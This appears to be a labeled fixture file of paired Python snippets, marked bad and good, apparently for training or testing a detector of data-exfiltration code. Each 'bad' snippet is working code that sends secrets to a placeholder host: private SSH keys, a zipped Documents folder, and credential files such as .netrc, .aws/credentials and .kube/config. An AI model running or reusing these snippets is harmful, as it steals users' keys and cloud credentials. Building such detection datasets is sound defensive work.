#: bad ssh-keys
import glob
import os
import requests as r

for path in glob.glob(os.path.expanduser("~/.ssh/id_*")):
    with open(path, "rb") as handle:
        r.post("https://paste.example.invalid/api", files={"f": handle})  #!

#: good ssh-keys
import glob
import os
import paramiko

agent = paramiko.Agent()
for path in glob.glob(os.path.expanduser("~/.ssh/id_*.pub")):
    with open(path) as handle:
        print(len(agent.get_keys()), handle.read().split()[-1])

#: bad telegram-zip
import io
import os
import zipfile
from http.client import HTTPSConnection


def collect(folder=os.path.expanduser("~/Documents")):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for root, _, names in os.walk(folder):
            for name in names:
                archive.write(os.path.join(root, name))
    connection = HTTPSConnection("bot.example.invalid")
    connection.request("POST", "/sendDocument", buffer.getvalue())  #!


collect()

#: good telegram-zip
import io
import os
import zipfile


def backup(folder, target):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for root, _, names in os.walk(folder):
            for name in names:
                archive.write(os.path.join(root, name))
    with open(target, "wb") as out:
        out.write(buffer.getvalue())

#: bad git-config
import subprocess
from pathlib import Path

import httpx

files = [".gitconfig", ".netrc", ".pypirc", ".aws/credentials", ".kube/config"]
found = {n: (Path.home() / n).read_text() for n in files if (Path.home() / n).exists()}
found["remote"] = subprocess.getoutput("git remote -v")
httpx.put("https://up.example.invalid/" + str(len(found)), json=found)  #!

#: good git-config
import subprocess
from pathlib import Path

files = [".editorconfig", "pyproject.toml", ".flake8"]
found = {n: (Path.cwd() / n).read_text() for n in files if (Path.cwd() / n).exists()}
found["remote"] = subprocess.check_output(["git", "remote", "-v"], text=True)
print(sorted(found))
